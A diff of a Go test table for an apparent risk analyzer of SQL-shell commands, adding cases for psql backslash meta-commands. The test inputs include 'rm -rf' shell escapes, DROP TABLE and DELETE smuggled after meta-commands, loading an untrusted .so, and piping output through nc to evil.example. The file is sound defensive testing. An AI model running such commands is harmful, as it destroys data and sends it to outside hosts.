@@ -278,6 +278,10 @@ var analyzeCases = []tc{
 	is(".output |nc evil.example 9", high, "sql.shell_escape"),
 	is(".load /tmp/x.so", high, "sql.untrusted_code"),
 	is(".tables", low, "sql.read"),
+	is("\\x \\\\ DROP TABLE t", high, "sql.drop_table"), // \\ returns to SQL
+	is("\\x \\dt \\\\ DELETE FROM t", high, "sql.delete_without_where"),
+	is("\\set x `rm -rf ~`", high, "sql.shell_escape"),
+	is("\\! echo a \\\\ b", high, "sql.shell_escape").without("sql.unrecognized"), // \! takes the whole line
 	is("system rm -rf /", high, "sql.shell_escape"),
 
 	// Production names in the text escalate destructive statements.
